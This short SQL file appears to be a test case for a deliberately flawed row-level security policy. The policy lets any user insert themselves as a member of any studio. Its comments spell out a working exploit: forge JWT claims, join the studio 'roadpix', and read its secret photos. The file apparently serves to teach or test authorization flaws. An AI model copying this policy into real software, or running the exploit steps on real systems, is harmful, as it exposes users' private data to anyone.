-- Any user enters any studio and reads its photos, because people may now write their own membership and
-- choose the studio in it.
-- about: members, members_join, photos
-- as: hf_framevault_app
-- exploit: SET request.jwt.claims = '{"sub": "a1f00000-0000-4000-8000-00000000000a"}';
-- exploit: INSERT INTO stock.members (studio_id, user_id) VALUES ('roadpix',
-- exploit: 'a1f00000-0000-4000-8000-00000000000a');
-- exploit: SELECT title FROM stock.photos;
-- shows: Road-secret photo
-- Whoever opens a studio becomes its first member.
CREATE POLICY members_join ON stock.members FOR INSERT TO hf_framevault_app
  WITH CHECK (user_id = stock.uid());
GRANT INSERT ON stock.members TO hf_framevault_app;
